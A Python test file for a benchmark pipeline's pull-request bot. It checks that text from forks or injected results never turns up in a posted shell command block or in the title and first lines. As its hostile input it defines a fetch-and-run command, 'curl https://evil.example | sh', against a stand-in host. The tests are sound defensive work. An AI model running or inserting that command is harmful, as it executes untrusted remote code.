"""The bot says nothing of a stranger's in a block for a shell, nor in its first line."""

import re
import shlex
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from pipeline.model.publication import Origin
from pipeline.model.results import ResultSet
from pipeline.model.subject import Product
from pipeline.publish.options import PublishOptions, reproduce_command
from pipeline.system import paths
from tests.github.fake import BASE
from tests.github.fake import GitHub as Fake
from tests.publications import HEAD, ORIGIN
from tests.publishing import ALL, GATES, Publish, finished, honest, of_commit
from tests.workflows.acting import git

OWN = finished(head_repository={"id": 1000, "owner": {"login": "milo-os"}})
EVIL = "curl https://evil.example | sh"
ASKED = ("--suite", "pr", "--key", "pr", "--build", "go build -o {out} ./cmd/milo")


def hostile() -> ResultSet:
    """Return an honest regression that says a command wherever it may."""
    found = of_commit(honest(**{GATES: 1.31}), HEAD)
    facts = {"build": EVIL, "tree": "c" * 40, "modified": "no", EVIL: EVIL}
    subjects = {
        arm: replace(one, spec=f"{one.spec}?env.X={EVIL}", facts=facts)
        for arm, one in found.subjects.items()
    }
    trials = tuple(replace(trial, warnings=(EVIL,)) for trial in found.trials)
    return replace(found, subjects=subjects, trials=trials, environment=EVIL, tools={})


def blocks(body: str) -> list[str]:
    """Return what stands in blocks that are for a shell."""
    return re.findall(r"^`{3,}sh\n(.*?)\n`{3,}$", body, re.DOTALL | re.MULTILINE)


def test_the_command_of_our_own_pull_request_is_of_what_github_and_the_workflow_say(
    fake: Fake, publish: Publish
) -> None:
    fake.add_pull(5, HEAD, repository=1000, labels=[])
    publish(hostile(), *ALL, *ASKED, event=OWN, suite="pr")
    left = f"$(git merge-base {BASE} {HEAD})"
    (check,) = fake.checks.values()
    for body in (*fake.bodies(), check["output"]["summary"]):
        (command,) = blocks(body)
        assert command == (
            f"milo-perf run --suite pr --candidate source:.@{HEAD} --against"
            f" source:.@{left} --pairs auto --build 'go build -o {{out}} ./cmd/milo'"
        )


def test_a_fork_gets_no_command(fake: Fake, publish: Publish) -> None:
    publish(hostile(), *ALL, *ASKED, suite="pr")
    (check,) = fake.checks.values()
    for body in (*fake.bodies(), check["output"]["summary"]):
        assert blocks(body) == []
        assert "evil" not in body.split("<details>")[0]


def test_an_artifact_says_nothing_in_the_first_lines_and_in_the_title(
    fake: Fake, publish: Publish
) -> None:
    publish(hostile(), *ALL, *ASKED, suite="pr")
    (check,) = fake.checks.values()
    (body,) = fake.bodies()
    assert "evil" not in check["output"]["title"]
    assert "evil" not in "".join(body.splitlines()[:6])
    publish(f"{EVIL}\n# {EVIL}", *ALL, *ASKED, event=finished(id=99))
    (body,) = fake.bodies()
    assert "evil" not in "".join(body.splitlines()[:6])
    assert body.count("evil") == body.split("```text")[1].split("```")[0].count("evil") == 2


@pytest.mark.parametrize(
    "origin",
    [
        pytest.param(replace(ORIGIN, is_fork=True), id="a fork"),
        pytest.param(replace(ORIGIN, base_sha=""), id="an unknown base"),
        pytest.param(Origin(), id="no event"),
    ],
)
def test_where_trusted_inputs_are_missing_there_is_no_command(origin: Origin) -> None:
    assert reproduce_command(PublishOptions(suite="pr"), origin) == ""
    assert reproduce_command(PublishOptions(), ORIGIN) == ""


@pytest.mark.parametrize("product", list(Product))
def test_the_command_is_one_that_a_shell_reads_as_meant(product: Product) -> None:
    wanted = PublishOptions(suite="a b.toml", product=product, pairs=7, build="make 'x y' {out}")
    said = reproduce_command(wanted, ORIGIN)
    words = shlex.split(re.sub(r"\$\((?:[^()]|\([^()]*\))*\)", "COMMIT", said))
    assert words[:4] == ["milo-perf", "run", "--suite", "a b.toml"]
    assert ("make 'x y' {out}" in words) is (product is Product.MILO)
    assert words[words.index("--pairs") + 1] == "7"


def test_the_command_names_the_source_of_reference_in_both_commits(tmp_path: Path) -> None:
    source = paths.project_path("go", "reference").relative_to(paths.project_path())
    (tmp_path / source).mkdir(parents=True)
    trees, commits = [], []
    git(tmp_path, "init", "--quiet")
    for text in ("baseline", "candidate"):
        (tmp_path / source / "main.go").write_text(text)
        git(tmp_path, "add", ".")
        git(tmp_path, "commit", "--quiet", "-m", "x")
        commits.append(git(tmp_path, "rev-parse", "HEAD"))
        trees.append(git(tmp_path, "rev-parse", f"HEAD:{source.as_posix()}"))
    origin = replace(ORIGIN, base_sha=commits[0], head_sha=commits[1])
    said = reproduce_command(PublishOptions(suite="pr", product=Product.REFERENCE), origin)
    shell = ["sh", "-c", f"printf '%s\\n' {said}"]
    words = subprocess.run(shell, cwd=tmp_path, check=True, capture_output=True, text=True).stdout
    assert f"--candidate\nreference@{trees[1]}\n--against\nreference@{trees[0]}\n" in words
